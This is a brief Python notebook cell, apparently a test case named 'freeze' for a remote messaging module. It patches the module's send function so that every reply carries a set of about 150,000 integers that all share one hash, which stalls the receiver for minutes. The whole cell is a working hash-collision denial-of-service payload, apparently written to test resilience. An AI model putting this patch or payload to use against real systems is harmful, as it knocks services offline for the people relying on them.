# %% [markdown]
# Replies with a set of numbers that all have one hash: building it takes the reader minutes.
# %% question="freeze"
from remote import wire

send = wire.send


def freeze(module):
    colliding = {"ok": {"set": [k * (2**61 - 1) for k in range(1, 150_000)]}}
    wire.send = lambda sock, header, tensors=None: send(sock, colliding)
    return module
